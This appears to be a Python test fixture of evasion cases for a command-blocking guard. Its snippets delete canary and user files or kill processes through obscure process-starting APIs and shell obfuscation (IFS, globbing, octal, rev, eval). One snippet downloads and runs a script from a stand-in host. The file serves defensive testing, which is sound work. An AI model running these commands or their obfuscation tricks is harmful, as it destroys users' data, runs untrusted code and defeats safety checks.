"""Programs started in the other ways that Python has."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

started = technique("python", "process started")
shell = technique("python", "shell in Python")

EVASIONS = (
    started(
        "popen",
        Harm.DESTROYED,
        r"""
import os

os.popen("rm -f /etc/redblue-canary.conf").read()
""",
    ),
    started(
        "execvp",
        Harm.DESTROYED,
        r"""
import os

os.execvp("rm", ["ls", "-f", "/home/mira/notes.txt"])
""",
    ),
    started(
        "execl",
        Harm.DESTROYED,
        r"""
import os

if os.fork() == 0:
    os.execl("/bin/sh", "sh", "-c", "rm -rf /var/backups/canary")
os.wait()
""",
    ),
    started(
        "execve-fd",
        Harm.DESTROYED,
        r"""
import os

os.execve(os.open("/usr/bin/unlink", os.O_RDONLY), ["x", "/etc/redblue-canary.conf"], {})
""",
    ),
    started(
        "spawnlp",
        Harm.DESTROYED,
        r"""
import os

os.spawnlp(os.P_WAIT, "rm", "rm", "/var/lib/canary/data.db")
""",
    ),
    started(
        "spawnve-nowait",
        Harm.DESTROYED,
        r"""
import os

pid = os.spawnve(os.P_NOWAIT, "/bin/mv", ["mv", "/home/mira/notes.txt", "/tmp"], {})
os.waitpid(pid, 0)
""",
    ),
    started(
        "posix-spawn",
        Harm.DESTROYED,
        r"""
import os

pid = os.posix_spawn("/bin/rm", ["rm", "/etc/redblue-canary.conf"], os.environ)
os.waitpid(pid, 0)
""",
    ),
    started(
        "posix-spawn-actions",
        Harm.DESTROYED,
        r"""
import os

emptied = [(os.POSIX_SPAWN_OPEN, 1, "/home/mira/notes.txt", os.O_WRONLY | os.O_TRUNC, 0o644)]
os.waitpid(os.posix_spawn("/bin/true", ["true"], {}, file_actions=emptied), 0)
""",
    ),
    started(
        "popen-made-in-two-steps",
        Harm.DESTROYED,
        r"""
import os
import subprocess

subprocess._USE_POSIX_SPAWN = False
child = subprocess.Popen.__new__(subprocess.Popen)
child.__init__(["/bin/rm", "/var/lib/canary/data.db"], close_fds=True)
child.wait()
""",
    ),
    started(
        "multiprocessing-util",
        Harm.DESTROYED,
        r"""
import os
from multiprocessing.util import spawnv_passfds

os.waitpid(spawnv_passfds(b"/bin/rm", [b"rm", b"/etc/redblue-canary.conf"], ()), 0)
""",
    ),
    started(
        "pty",
        Harm.DESTROYED,
        r"""
import pty

pty.spawn(["sh", "-c", "rm -f /home/mira/notes.txt"])
""",
    ),
    started(
        "pty-fork",
        Harm.DESTROYED,
        r"""
import os
import pty

pid, fd = pty.fork()
if pid == 0:
    os.execlp("rm", "rm", "-rf", "/home/mira/photos")
os.waitpid(pid, 0)
""",
    ),
    started(
        "asyncio-shell",
        Harm.DESTROYED,
        r"""
import asyncio


async def main():
    child = await asyncio.create_subprocess_shell("rm -f /etc/redblue-canary.conf")
    await child.wait()


asyncio.run(main())
""",
    ),
    started(
        "asyncio-exec",
        Harm.KILLED,
        r"""
import asyncio


async def step(*words):
    return await (await asyncio.create_subprocess_exec(*words)).wait()


asyncio.run(step("pkill", "-x", "canary-db"))
""",
    ),
    started(
        "asyncio-loop",
        Harm.DESTROYED,
        r"""
import asyncio

loop = asyncio.new_event_loop()
loop.run_until_complete(loop.subprocess_shell(asyncio.SubprocessProtocol, "rm -rf /var/backups/canary"))
loop.run_until_complete(asyncio.sleep(0.5))
""",
    ),
    started(
        "distutils-spawn",
        Harm.DESTROYED,
        r"""
import warnings

warnings.simplefilter("ignore")
from distutils.spawn import spawn

spawn(["rm", "-f", "/home/mira/notes.txt"])
""",
    ),
    started(
        "webbrowser",
        Harm.DESTROYED,
        r"""
import webbrowser

webbrowser.GenericBrowser(["rm", "%s"]).open("/var/lib/canary/data.db")
""",
    ),
    started(
        "pydoc-pager",
        Harm.DESTROYED,
        r"""
import pydoc

pydoc.pipepager("text", "rm -f /etc/redblue-canary.conf; cat")
""",
    ),
    started(
        "pydoc-tempfile-pager",
        Harm.DESTROYED,
        r"""
import pydoc

pydoc.tempfilepager("text", "rm /home/mira/notes.txt; cat")
""",
    ),
    shell(
        "os-system-quotes",
        Harm.DESTROYED,
        r'''
import os

os.system("""r''m -f "/etc/redblue"-canary.co'nf'""")
''',
    ),
    shell(
        "os-system-variable",
        Harm.DESTROYED,
        r"""
import os

os.system("x=notes; y=.txt; rm -f /home/mira/$x$y")
""",
    ),
    shell(
        "os-system-ifs",
        Harm.DESTROYED,
        r"""
import os

os.system("rm${IFS}-rf${IFS}/var/backups/canary")
""",
    ),
    shell(
        "os-system-glob",
        Harm.DESTROYED,
        r"""
import os

os.system("/???/r? -f /e?c/redblue*")
""",
    ),
    shell(
        "os-system-octal",
        Harm.DESTROYED,
        r"""
import os

os.system(r"printf '\162\155 -f /home/mira/notes.txt' | sh")
""",
    ),
    shell(
        "os-popen-variable",
        Harm.RAN,
        r"""
import os

tool, where = "curl", "http://updates.test:8000/setup.sh"
os.popen(f"{tool} -fsS {where} -o /tmp/s; chmod +x /tmp/s; sh /tmp/s").close()
""",
    ),
    shell(
        "environment-then-eval",
        Harm.DESTROYED,
        r"""
import os

os.environ["STEP"] = "rm -f /etc/redblue-canary.conf"
os.system('eval "$STEP"')
""",
    ),
    shell(
        "script-written",
        Harm.DESTROYED,
        r"""
import os

with open("/workspace/build.sh", "w") as script:
    script.write("#!/bin/sh\n")
    script.write("cd /var/lib/canary && rm data.db\n")
os.chmod("/workspace/build.sh", 0o755)
os.system("/workspace/build.sh")
""",
    ),
    shell(
        "here-document",
        Harm.DESTROYED,
        r'''
import os

os.system("""cat <<'END' | sh
find /home/mira -name 'notes*' -exec rm {} +
END
""")
''',
    ),
    shell(
        "reversed-by-rev",
        Harm.DESTROYED,
        r"""
import os

os.system("echo 'fnoc.yranac-eulbder/cte/ f- mr' | rev | sh")
""",
    ),
)
